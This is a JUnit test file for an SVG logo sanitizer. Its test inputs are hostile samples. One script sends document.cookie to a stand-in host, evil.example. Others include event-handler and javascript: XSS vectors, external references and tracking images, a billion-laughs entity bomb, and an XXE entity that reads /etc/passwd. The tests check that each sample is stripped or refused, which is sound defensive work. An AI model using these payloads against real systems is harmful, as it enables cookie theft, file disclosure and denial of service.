package io.flexboard.commandapi.branding;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.time.Duration;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

class SvgSanitizerTest {

    @Test
    void a_plain_logo_keeps_its_shapes_text_and_paint() {
        String clean = sanitized(Logos.ACME_SVG);

        assertThat(clean).contains("<circle", "cx=\"20\"", "fill=\"#1a365d\"", ">Acme</text>", "viewBox=\"0 0 120 40\"",
                "xmlns=\"http://www.w3.org/2000/svg\"");
    }

    @Test
    void a_script_element_is_removed_and_the_rest_is_kept() {
        String clean = sanitized("""
                <svg xmlns="http://www.w3.org/2000/svg"><script>fetch('https://evil.example/'+document.cookie)</script>
                <rect width="10" height="10" fill="red"/></svg>""");

        assertThat(clean).doesNotContain("script", "fetch", "evil").contains("<rect");
    }

    @Test
    void event_handler_attributes_are_removed() {
        String clean = sanitized("""
                <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10" onclick="alert(2)" \
                onmouseover="alert(3)"/></svg>""");

        assertThat(clean).doesNotContain("onload", "onclick", "onmouseover", "alert").contains("<rect");
    }

    @Test
    void a_javascript_href_and_an_external_href_are_removed_but_a_local_fragment_is_kept() {
        String clean = sanitized("""
                <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
                  <defs><symbol id="mark"><rect width="4" height="4"/></symbol></defs>
                  <a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>
                  <use xlink:href="javascript:alert(1)"/>
                  <use href="https://evil.example/sprite.svg#x"/>
                  <image href="https://evil.example/track.png" width="1" height="1"/>
                  <use xlink:href="#mark"/>
                </svg>""");

        assertThat(clean).doesNotContain("javascript", "evil.example", "<a", "<image")
                .contains("xlink:href=\"#mark\"");
        assertThat(clean.split("<use", -1)).hasSize(4);
    }

    @Test
    void foreign_object_and_a_style_with_url_are_removed() {
        String clean = sanitized("""
                <svg xmlns="http://www.w3.org/2000/svg">
                  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
                  <style>rect { fill: url(https://evil.example/x) }</style>
                  <rect width="10" height="10" style="fill: url(https://evil.example/y)" fill="url(https://evil.example/z)"/>
                  <circle r="3" fill="url(#grad)" style="opacity: 0.5"/>
                </svg>""");

        assertThat(clean).doesNotContain("foreignObject", "<div", "<style", "evil.example")
                .contains("fill=\"url(#grad)\"", "style=\"opacity: 0.5\"");
    }

    @Test
    void a_billion_laughs_document_is_refused_before_any_entity_is_expanded() {
        String lol = """
                <?xml version="1.0"?>
                <!DOCTYPE svg [
                  <!ENTITY lol "lol">
                  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
                  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
                  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
                  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
                  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
                  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
                  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
                  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
                  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
                ]>
                <svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="10">&lol9;</text></svg>""";

        assertTimeoutPreemptively(Duration.ofSeconds(2), () ->
                assertThatThrownBy(() -> SvgSanitizer.sanitize(lol.getBytes(StandardCharsets.UTF_8)))
                        .isInstanceOf(UnsafeImageException.class)
                        .hasMessage("must not hold a DOCTYPE (no DTD, no entities)"));
    }

    @Test
    void an_external_entity_reading_a_local_file_is_refused() {
        String xxe = """
                <!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
                <svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="10">&secret;</text></svg>""";

        assertThatThrownBy(() -> SvgSanitizer.sanitize(xxe.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(UnsafeImageException.class)
                .hasMessageContaining("DOCTYPE")
                .hasMessageNotContaining("root:");
    }

    @Test
    void a_document_with_nothing_drawable_left_is_refused() {
        assertThatThrownBy(() -> sanitized("""
                <svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text x="1" y="1">  </text>\
                <use xlink:href="https://evil.example/x#y" xmlns:xlink="http://www.w3.org/1999/xlink"/></svg>"""))
                .isInstanceOf(UnsafeImageException.class)
                .hasMessage("has nothing drawable left once scripts, links and unknown elements are removed");
    }

    @Test
    void an_html_document_or_an_svg_without_its_namespace_is_refused() {
        assertThatThrownBy(() -> sanitized("<html><body><svg><rect width='1' height='1'/></svg></body></html>"))
                .isInstanceOf(UnsafeImageException.class).hasMessageStartingWith("is not an SVG document");
        assertThatThrownBy(() -> sanitized("<svg><rect width='1' height='1'/></svg>"))
                .isInstanceOf(UnsafeImageException.class).hasMessageStartingWith("is not an SVG document");
    }

    @Test
    void malformed_or_binary_input_is_refused_as_not_well_formed() {
        assertThatThrownBy(() -> sanitized("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect>"))
                .isInstanceOf(UnsafeImageException.class).hasMessageStartingWith("is not well-formed XML");
        assertThatThrownBy(() -> SvgSanitizer.sanitize(Logos.png(4, 4)))
                .isInstanceOf(UnsafeImageException.class).hasMessageStartingWith("is not well-formed XML");
    }

    @Test
    void a_sanitised_logo_sanitised_again_is_unchanged() {
        byte[] once = SvgSanitizer.sanitize(Logos.ACME_SVG.getBytes(StandardCharsets.UTF_8));

        assertThatCode(() -> assertThat(SvgSanitizer.sanitize(once)).isEqualTo(once)).doesNotThrowAnyException();
    }

    private static String sanitized(String svg) {
        return new String(SvgSanitizer.sanitize(svg.getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8);
    }
}
